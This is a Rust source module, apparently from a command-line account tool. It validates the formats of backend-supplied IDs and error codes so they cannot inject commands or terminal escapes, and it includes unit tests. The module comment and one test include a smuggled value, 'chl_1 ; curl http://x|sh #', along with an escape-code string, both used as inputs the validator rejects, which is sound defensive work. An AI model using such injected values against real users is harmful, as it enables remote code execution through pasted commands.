//! The formats of the IDs in an answer, checked before anyone sees them.
//!
//! An ID from the backend is printed in success lines and put into the
//! commands acctl suggests (`acctl code verify chl_…`). A hostile or broken
//! backend that sent `chl_1 ; curl …|sh #` would make that a command to paste
//! into a shell; one that sent escape codes would write to the terminal. So an
//! answer whose IDs do not have their format is refused as a whole (the
//! backend "sent a malformed …" error), never printed. Other text from the
//! backend (names, details) is not refused but sanitised where it is printed
//! ([`crate::output::sanitize`]).

use acctl_api::{
    Account, AuditPage, Challenge, LoginResponse, Outbox, PasswordChange, SessionsRevoked, VerifyResponse, Whoami,
};

use super::BatchAnswer;

/// `PREFIX` then 6 to 64 lowercase letters and digits: the reference service's
/// `acc_`, `chl_`, `req_` and `vt_` IDs (`acc_[a-z0-9]{6,64}` in its OpenAPI).
fn has_format(s: &str, prefix: &str) -> bool {
    s.strip_prefix(prefix).is_some_and(|rest| {
        (6..=64).contains(&rest.len()) && rest.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
    })
}

pub fn is_account_id(s: &str) -> bool {
    has_format(s, "acc_")
}

pub fn is_challenge_id(s: &str) -> bool {
    has_format(s, "chl_")
}

pub fn is_request_id(s: &str) -> bool {
    has_format(s, "req_")
}

pub fn is_verification_token(s: &str) -> bool {
    has_format(s, "vt_")
}

/// A problem or batch error code: `snake_case`, at most 64 characters.
pub fn is_error_code(s: &str) -> bool {
    (1..=64).contains(&s.len())
        && s.starts_with(|c: char| c.is_ascii_lowercase())
        && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
}

/// An answer the client can vouch for. `Err` names what is malformed.
pub trait Checked {
    fn check(&self) -> Result<(), &'static str> {
        Ok(())
    }
}

fn require(ok: bool, what: &'static str) -> Result<(), &'static str> {
    if ok { Ok(()) } else { Err(what) }
}

impl Checked for Account {
    fn check(&self) -> Result<(), &'static str> {
        require(is_account_id(&self.id), "account ID")
    }
}

impl Checked for Challenge {
    fn check(&self) -> Result<(), &'static str> {
        require(is_challenge_id(&self.challenge_id), "challenge ID")?;
        require(is_account_id(&self.account_id), "account ID")
    }
}

impl Checked for VerifyResponse {
    fn check(&self) -> Result<(), &'static str> {
        match self {
            VerifyResponse::Verified { verification_token, .. } => {
                require(is_verification_token(verification_token), "verification token")
            }
            VerifyResponse::MoreRequired { .. } => Ok(()),
        }
    }
}

impl Checked for PasswordChange {
    fn check(&self) -> Result<(), &'static str> {
        require(is_account_id(&self.account_id), "account ID")
    }
}

impl Checked for SessionsRevoked {
    fn check(&self) -> Result<(), &'static str> {
        require(is_account_id(&self.account_id), "account ID")
    }
}

impl Checked for LoginResponse {
    fn check(&self) -> Result<(), &'static str> {
        require(is_account_id(&self.account_id), "account ID")
    }
}

/// Each account, and each item's error code (the `lookup -` summary prints them).
impl<A: Checked> Checked for BatchAnswer<A> {
    fn check(&self) -> Result<(), &'static str> {
        for item in &self.results {
            if let Some(account) = &item.account {
                account.check()?;
            }
            if let Some(error) = &item.error {
                require(is_error_code(&error.code), "error code")?;
            }
        }
        Ok(())
    }
}

/// Printed only through the sanitising printer and record writer.
impl Checked for Whoami {}
impl Checked for AuditPage {}
impl Checked for Outbox {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_have_their_format() {
        assert!(is_account_id("acc_demoalice") && is_account_id("acc_0123456789abcdef"));
        assert!(is_challenge_id("chl_5n2k8q4w9x1c"));
        assert!(is_request_id("req_0a1b2c3d4e5f00000001"));
        for bad in ["chl_1 ; curl http://x|sh #", "chl_\u{1b}[2Jabcdef", "chl_ABCDEF", "chl_abc", "acc_demoalice", ""] {
            assert!(!is_challenge_id(bad), "{bad:?}");
        }
        assert!(!is_account_id(&format!("acc_{}", "a".repeat(65))));
        assert!(is_error_code("account_not_found") && !is_error_code("\u{1b}[31mred") && !is_error_code("Not_found"));
    }
}
